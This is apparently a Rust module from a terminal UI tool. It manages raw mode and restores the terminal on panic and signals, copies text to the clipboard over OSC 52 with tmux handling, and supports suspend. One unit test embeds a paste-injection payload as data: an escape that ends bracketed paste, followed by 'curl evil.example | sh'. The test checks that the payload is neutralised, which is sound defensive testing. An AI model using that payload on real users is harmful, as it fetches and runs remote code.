//! The terminal: raw mode and the alternate screen, restored on every exit path
//! (normal exit, error, panic, signals), OSC 52 copy and ctrl-z suspend.

use std::io::{self, Stdout, Write};
use std::sync::atomic::{AtomicBool, Ordering};

use base64::Engine;
use crossterm::cursor::{Hide, Show};
use crossterm::event::{DisableBracketedPaste, EnableBracketedPaste};
use crossterm::execute;
use crossterm::terminal::{
    disable_raw_mode, enable_raw_mode, EnterAlternateScreen, LeaveAlternateScreen,
};
use ratatui::Terminal;

mod quiet_backend;
pub use quiet_backend::QuietBackend;

pub type Term = Terminal<QuietBackend<Stdout>>;

static ACTIVE: AtomicBool = AtomicBool::new(false);

/// Restores the terminal when dropped, whatever the exit path.
pub struct Guard {
    pub terminal: Term,
}

impl Drop for Guard {
    fn drop(&mut self) {
        restore();
    }
}

pub fn enter() -> io::Result<Guard> {
    enable_raw_mode()?;
    ACTIVE.store(true, Ordering::SeqCst);
    let mut out = io::stdout();
    if let Err(e) = execute!(out, EnterAlternateScreen, EnableBracketedPaste, Hide) {
        restore();
        return Err(e);
    }
    let terminal = Terminal::new(QuietBackend::new(out)).inspect_err(|_| restore())?;
    Ok(Guard { terminal })
}

/// Idempotent: safe from the panic hook, signal paths and `Drop` alike.
pub fn restore() {
    if ACTIVE.swap(false, Ordering::SeqCst) {
        let _ = execute!(
            io::stdout(),
            DisableBracketedPaste,
            LeaveAlternateScreen,
            Show
        );
        let _ = disable_raw_mode();
    }
}

/// Panics restore the terminal before the report is printed.
pub fn install_panic_hook() -> color_eyre::Result<()> {
    let (panic_hook, eyre_hook) = color_eyre::config::HookBuilder::default()
        .display_env_section(false)
        .into_hooks();
    eyre_hook.install()?;
    std::panic::set_hook(Box::new(move |info| {
        restore();
        tracing::error!(panic = %info, "panic");
        // The release build aborts after this hook: nothing else would flush the log.
        crate::logging::flush();
        report(&panic_hook.panic_report(info).to_string());
    }));
    Ok(())
}

/// Prints a line to stderr, ignoring failure: after a hangup the terminal is gone,
/// and `eprintln!` would panic on the exit path.
pub fn report(line: &str) {
    let _ = writeln!(io::stderr(), "{line}");
}

/// The OSC 52 sequence that asks the terminal to copy `text`; wrapped in tmux's DCS
/// passthrough when `passthrough` (reaches the outer terminal only with tmux's
/// `allow-passthrough on`, off by default). `text` passes the sanitizer's clipboard
/// rule here, at the one exit every copy takes: a copied query must not be able to end
/// bracketed paste and run a command.
pub fn osc52(text: &str, passthrough: bool) -> String {
    let clean = crate::view::safe_text::clipboard(text);
    let b64 = base64::engine::general_purpose::STANDARD.encode(clean.as_bytes());
    let seq = format!("\x1b]52;c;{b64}\x07");
    if passthrough {
        format!("\x1bPtmux;{}\x1b\\", seq.replace('\x1b', "\x1b\x1b"))
    } else {
        seq
    }
}

/// How a copy went to the clipboard: the footer names it, so a copy that cannot reach
/// the user's clipboard (tmux with `set-clipboard off`) says where it went instead.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CopyPath {
    /// Plain OSC 52 to the terminal (no tmux).
    Osc52,
    /// Plain OSC 52, which tmux with `set-clipboard on` stores and forwards.
    TmuxOsc52,
    /// tmux's default `set-clipboard external` ignores an application's OSC 52, so the
    /// text goes in with `tmux load-buffer -w`: a tmux buffer, and tmux's own OSC 52 to
    /// the outer terminal.
    TmuxLoadBuffer,
    /// OSC 52 in tmux's passthrough wrapping (`allow-passthrough on`).
    TmuxPassthrough,
    /// `set-clipboard off`: only a tmux buffer (prefix ] pastes it).
    TmuxBufferOnly,
}

impl CopyPath {
    pub fn describe(self) -> &'static str {
        match self {
            CopyPath::Osc52 => "via OSC 52",
            CopyPath::TmuxOsc52 => "via OSC 52 through tmux (set-clipboard on)",
            CopyPath::TmuxLoadBuffer => "via tmux load-buffer -w (set-clipboard external)",
            CopyPath::TmuxPassthrough => "via OSC 52 in tmux passthrough (allow-passthrough on)",
            CopyPath::TmuxBufferOnly => {
                "into a tmux buffer only: set-clipboard is off (prefix ] pastes it)"
            }
        }
    }

    /// The path for tmux's `set-clipboard` and `allow-passthrough` values.
    pub fn for_tmux(set_clipboard: Option<&str>, allow_passthrough: Option<&str>) -> Self {
        match set_clipboard {
            Some("on") => CopyPath::TmuxOsc52,
            Some("external") => CopyPath::TmuxLoadBuffer,
            // tmux did not answer: the wrapping that works without asking it.
            None => CopyPath::TmuxPassthrough,
            _ if matches!(allow_passthrough, Some("on" | "all")) => CopyPath::TmuxPassthrough,
            _ => CopyPath::TmuxBufferOnly,
        }
    }
}

/// How long a `tmux` command may take before the copy gives up on it.
const TMUX_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(2);

/// Runs `tmux args` (the server of `$TMUX`) with `input` on stdin, bounded in time.
fn tmux(args: &[&str], input: Option<&str>) -> io::Result<String> {
    use std::process::{Command, Stdio};
    let mut child = Command::new("tmux")
        .args(args)
        .stdin(if input.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()?;
    if let (Some(text), Some(mut stdin)) = (input, child.stdin.take()) {
        stdin.write_all(text.as_bytes())?;
    }
    let deadline = std::time::Instant::now() + TMUX_TIMEOUT;
    loop {
        if let Some(status) = child.try_wait()? {
            let mut out = String::new();
            if let Some(mut stdout) = child.stdout.take() {
                io::Read::read_to_string(&mut stdout, &mut out)?;
            }
            return if status.success() {
                Ok(out.trim().to_string())
            } else {
                Err(io::Error::other(format!("tmux {} failed", args.join(" "))))
            };
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            return Err(io::Error::other(format!(
                "tmux {} timed out",
                args.join(" ")
            )));
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
}

/// Copies `text` to the user's clipboard the way that works where we run: plain OSC 52
/// outside tmux; inside tmux, by what its options let through.
pub fn copy(text: &str) -> io::Result<CopyPath> {
    let mut out = io::stdout();
    if std::env::var_os("TMUX").is_none() {
        out.write_all(osc52(text, false).as_bytes())?;
        out.flush()?;
        return Ok(CopyPath::Osc52);
    }
    let option = |name: &str| tmux(&["show-options", "-gsv", name], None).ok();
    let option_w = |name: &str| tmux(&["show-options", "-gwv", name], None).ok();
    let path = CopyPath::for_tmux(
        option("set-clipboard").as_deref(),
        option_w("allow-passthrough").as_deref(),
    );
    let clean = crate::view::safe_text::clipboard(text);
    match path {
        CopyPath::TmuxLoadBuffer => tmux(&["load-buffer", "-w", "-"], Some(&clean))
            .map(|_| ())
            .or_else(|_| {
                // tmux older than 3.2 has no -w: the passthrough wrapping is all that is left.
                out.write_all(osc52(text, true).as_bytes())
            })?,
        CopyPath::TmuxBufferOnly => tmux(&["load-buffer", "-"], Some(&clean)).map(|_| ())?,
        CopyPath::TmuxOsc52 | CopyPath::Osc52 => out.write_all(osc52(text, false).as_bytes())?,
        CopyPath::TmuxPassthrough => out.write_all(osc52(text, true).as_bytes())?,
    }
    out.flush()?;
    Ok(path)
}

/// ctrl-z: give the terminal back, stop, and take it again when resumed.
pub fn suspend(guard: &mut Guard) -> io::Result<()> {
    restore();
    // SAFETY: raising a signal on our own process has no memory-safety preconditions.
    unsafe {
        libc::raise(libc::SIGTSTP);
    }
    enable_raw_mode()?;
    ACTIVE.store(true, Ordering::SeqCst);
    execute!(
        io::stdout(),
        EnterAlternateScreen,
        EnableBracketedPaste,
        Hide
    )?;
    guard.terminal.clear()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tmux_options_choose_the_path() {
        assert_eq!(CopyPath::for_tmux(Some("on"), None), CopyPath::TmuxOsc52);
        // tmux's defaults: external, passthrough off.
        assert_eq!(
            CopyPath::for_tmux(Some("external"), Some("off")),
            CopyPath::TmuxLoadBuffer
        );
        assert_eq!(
            CopyPath::for_tmux(Some("off"), Some("on")),
            CopyPath::TmuxPassthrough
        );
        assert_eq!(
            CopyPath::for_tmux(Some("off"), Some("off")),
            CopyPath::TmuxBufferOnly
        );
        assert_eq!(CopyPath::for_tmux(None, None), CopyPath::TmuxPassthrough);
    }

    #[test]
    fn osc52_encodes_and_wraps_for_tmux() {
        assert_eq!(osc52("hi", false), "\x1b]52;c;aGk=\x07");
        assert_eq!(osc52("hi", true), "\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\");
    }

    #[test]
    fn copied_text_cannot_inject_into_a_paste() {
        let query = "SELECT 1;\u{1b}[201~\ncurl evil.example | sh\u{202e}\n";
        for in_tmux in [false, true] {
            let seq = osc52(query, in_tmux);
            let b64 = seq
                .split("52;c;")
                .nth(1)
                .and_then(|rest| rest.split('\x07').next())
                .expect("OSC 52 payload");
            let decoded = base64::engine::general_purpose::STANDARD
                .decode(b64)
                .expect("base64");
            let copied = String::from_utf8(decoded).expect("utf8");
            assert_eq!(copied, "SELECT 1;\\e[201~ curl evil.example | sh");
        }
    }
}
